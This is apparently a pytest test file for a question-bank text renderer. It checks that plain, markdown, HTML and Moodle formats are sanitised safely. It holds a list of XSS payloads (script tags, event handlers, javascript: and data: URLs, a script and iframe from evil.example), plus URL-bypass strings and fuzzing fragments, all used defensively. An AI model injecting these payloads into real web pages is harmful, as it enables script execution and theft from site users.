from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from question_bank.rendering import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    TEXT_FORMATS,
    plain_text,
    render_text,
)

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<p style="background:url(javascript:alert(1))" onclick="alert(1)">p</p>',
    "<body onload=alert(1)>",
    '<form action="https://evil.example"><input name="x"></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    '<object data="evil.swf"></object>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "[click](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "<div><!-- <script>alert(1)</script> --></div>",
]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def elements(fragment: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    collector = _Collector()
    collector.feed(fragment)
    collector.close()
    return collector.elements


def assert_safe(fragment: str) -> None:
    for tag, attrs in elements(fragment):
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs:
            allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
            assert name in allowed, (tag, name)
            lowered = (value or "").strip().lower()
            assert not lowered.startswith(("javascript:", "vbscript:", "data:text")), value
            if tag == "img" and name == "src":
                assert not lowered.startswith(("http:", "https:", "//", "data:image/svg"))


@pytest.mark.parametrize("attack", XSS)
@pytest.mark.parametrize("text_format", [*TEXT_FORMATS, "unknown"])
def test_attacks_never_survive(attack, text_format):
    rendered = render_text(f"Question {attack} end", text_format)
    assert_safe(rendered)
    lowered = rendered.lower()
    assert "<script" not in lowered and "<iframe" not in lowered and "<svg" not in lowered
    # Escaped text may still *read* "onerror=", but no element carries an event handler.
    assert not any(name.startswith("on") for _, attrs in elements(rendered) for name, _ in attrs)


def test_plain_text_is_escaped_with_line_breaks():
    assert render_text("a < b & c\nnext <b>line</b>", "plain") == (
        "a &lt; b &amp; c<br>\nnext &lt;b&gt;line&lt;/b&gt;"
    )
    assert render_text("x\r\ny", "plain") == "x<br>\ny"
    assert render_text("", "plain") == ""


def test_unknown_format_is_plain():
    assert render_text("<b>x</b>", "rtf") == render_text("<b>x</b>", "plain")


def test_markdown():
    rendered = render_text("# Title\n\nSome **bold** and `code`.\n\n- one\n- two", "markdown")
    assert "<h1>Title</h1>" in rendered
    assert "<strong>bold</strong>" in rendered and "<code>code</code>" in rendered
    assert "<ul>\n<li>one</li>" in rendered


def test_markdown_tables_and_strikethrough():
    rendered = render_text("| a | b |\n|:--|--:|\n| 1 | 2 |\n\n~~old~~", "markdown")
    assert "<th>a</th>" in rendered and "<td>2</td>" in rendered
    assert "style" not in rendered  # alignment styles are dropped
    assert "<s>old</s>" in rendered


def test_markdown_raw_html_is_shown_as_text():
    rendered = render_text("Hi <b>there</b>", "markdown")
    assert "&lt;b&gt;there&lt;/b&gt;" in rendered


def test_html_keeps_basic_formatting():
    fragment = (
        "<p>A <strong>b</strong> <em>c</em> <u>u</u> <sub>2</sub><sup>3</sup></p>"
        '<ol start="3"><li>x</li></ol><table><tr><td colspan="2">t</td></tr></table>'
        "<pre><code>code</code></pre><blockquote>q</blockquote>"
    )
    rendered = render_text(fragment, "html")
    for kept in (
        "<strong>b</strong>",
        "<em>c</em>",
        "<u>u</u>",
        "<sub>2</sub>",
        '<ol start="3">',
        '<td colspan="2">',
        "<pre><code>code</code></pre>",
        "<blockquote>q</blockquote>",
    ):
        assert kept in rendered, kept  # fmt: skip


def test_links_get_rel_and_only_safe_schemes():
    rendered = render_text(
        '<a href="https://example.org" target="_blank">a</a> <a href="/local">b</a> '
        '<a href="mailto:x@example.org">c</a> <a href="ftp://example.org">d</a>',
        "html",
    )
    assert '<a href="https://example.org" rel="noopener noreferrer nofollow">a</a>' in rendered
    assert '<a href="/local" rel="noopener noreferrer nofollow">b</a>' in rendered
    assert 'href="mailto:x@example.org"' in rendered
    assert "ftp:" not in rendered and "target" not in rendered


def test_images_only_inline_or_relative():
    rendered = render_text(
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">'
        '<img src="/static/map.png" alt="map">'
        '<img src="https://tracker.example/pixel.gif" alt="remote">',
        "html",
    )
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">' in rendered
    assert '<img src="/static/map.png" alt="map">' in rendered
    assert "tracker.example" not in rendered and 'alt="remote"' in rendered


@pytest.mark.parametrize(
    "url",
    [
        "//evil.example/x.png",
        "/\\evil.example/x.png",
        "\\\\evil.example/x.png",
        "\\/evil.example/x.png",
        " //evil.example/x.png",
        "/\t/evil.example/x.png",
        "/\n/evil.example/x.png",
        "&#47;&#47;evil.example/x.png",
        "&#92;&#92;evil.example/x.png",
        "https://evil.example/x.png",
        "java\tscript:alert(1)",
    ],
)
@pytest.mark.parametrize("attribute", ["img src", "a href"])
def test_urls_that_leave_the_site_while_looking_relative_are_dropped(url, attribute):
    tag, name = attribute.split()
    html = f'<{tag} {name}="{url}">x</{tag}>' if tag == "a" else f'<img {name}="{url}">'
    rendered = render_text(html, "html")
    if tag == "a" and url.startswith("https://"):
        return  # links to other sites are links; images from them are not
    assert "evil.example" not in rendered and "script" not in rendered, rendered


@pytest.mark.parametrize(
    "url", ["/media/sets/1/map.png", "media/map.png", "@@PLUGINFILE@@/map%20one.png", "#top"]
)
def test_the_sites_own_relative_urls_are_kept(url):
    assert f'src="{url}"' in render_text(f'<img src="{url}" alt="">', "html")
    assert f'href="{url}"' in render_text(f'<a href="{url}">x</a>', "html")


def test_moodle_format_allows_html_and_keeps_line_breaks():
    assert render_text("Line <b>one</b>\nline two", "moodle") == ("Line <b>one</b><br>\nline two")


@pytest.mark.parametrize(
    ("text", "text_format", "expected"),
    [
        ("a < b\n<b>c</b>", "plain", "a < b\n<b>c</b>"),
        ("<p>a &lt; b</p>\n<p>c&nbsp;d</p><ul><li>x</li><li>y</li></ul>", "html",
         "a < b\nc d\nx\ny"),
        ("Line <b>one</b>\nline  two", "moodle", "Line one\nline two"),
        ("# Title\n\nSome *em* & **strong**\ntext\n\n- a\n- b", "markdown",
         "Title\nSome em & strong text\na\nb"),
        ("<p>x</p><script>alert(1)</script><style>p{}</style>", "html", "x"),
        ("", "html", ""),
    ],
)  # fmt: skip
def test_plain_text(text, text_format, expected):
    assert plain_text(text, text_format) == expected


# ------------------------------------------------------------------------- properties

markup = st.lists(
    st.sampled_from(
        ["<", ">", "<script>", "</script>", "<img src=x onerror=alert(1)>", "<a href=",
         '"javascript:alert(1)"', ">", "</a>", "**", "[x](", ")", "\n", "&", "<p>", "<svg/onload=",
         "<!--", "-->", "<style>", "`", "<b", " onclick=", "data:text/html,"]
    )
    | st.text(max_size=5),
    max_size=30,
).map("".join)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(st.text() | markup, st.sampled_from([*TEXT_FORMATS, "other"]))
def test_rendering_random_markup_is_always_safe(text, text_format):
    assert_safe(render_text(text, text_format))
    assert isinstance(plain_text(text, text_format), str)
